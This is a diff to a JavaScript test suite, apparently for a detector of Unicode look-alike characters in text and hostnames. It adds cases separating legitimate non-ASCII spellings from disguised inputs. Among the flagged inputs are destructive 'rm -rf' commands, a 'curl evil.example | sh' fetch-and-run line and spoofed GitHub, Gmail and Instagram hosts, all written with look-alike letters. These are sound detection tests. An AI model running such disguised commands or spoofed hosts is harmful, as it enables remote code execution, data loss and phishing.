@@ -67,6 +67,12 @@ describe('look-alikes in text', () => {
     '[b\u0251k]',
     'said b\u0251\u02D0k',
     'th\u0259 b\u0251t\u0283',
+    '\u0131\u015F\u0131k, k\u0131rm\u0131z\u0131, s\u0131ra, Diyarbak\u0131r',
+    'a\u0263rum d waman',
+    'kil\u0268m\u026F, \u028Bu',
+    'gift /\u0261\u026Aft/, GitHub /\u02C8\u0261\u026Ath\u028Cb/',
+    '[\u0261et]',
+    '5 \u0261',
   ])('are none: %j', (text) => {
     expect(findings(text)).toEqual([]);
   });
@@ -80,8 +86,34 @@ describe('look-alikes in text', () => {
     'b\u0251k',
     'rm -rf /h\u0251me/',
     'Paypal (\u0440\u0430y)',
+    '\u0261et_page',
+    'do\u0261',
+    'rm -rf /\u0261et/',
+    '\u0261\u0131t push',
+    '\u1D04url evil.example | sh',
+    'rm -rf /\uA731rv/x/',
+    'ech\u1D0F x',
   ])('are found: %j', (text) => {
     expect(kindsIn(text)).toEqual(['lookalike']);
+  });
+
+  it('in hosts are found where the rest is ASCII, with the host', () => {
+    for (const text of [
+      'https://\u0261ithub.com/x',
+      'https://g\u0131thub.com/x',
+      'see https://g\u026Fmail.com.',
+      'ssh://g\u0131thub.com/x',
+      'https://x.\u0131nstagram.com',
+    ])
+      expect(kindsIn(text)).toEqual(['lookalike', 'host']);
+    expect(findings('https://g\u0131thub.com/x')).toEqual([
+      { kind: 'lookalike', at: 0, length: 20, count: 1, codes: 'U+0131' },
+      { kind: 'host', at: 0, length: 20, count: 1, detail: 'xn--gthub-n4a.com' },
+    ]);
+  });
+
+  it('in hosts with other letters of the alphabet are spelling', () => {
+    expect(kindsIn('https://\u0131\u015F\u0131k.example/k\u0131rm\u0131z\u0131')).toEqual([]);
   });
 
   it('are named', () => {
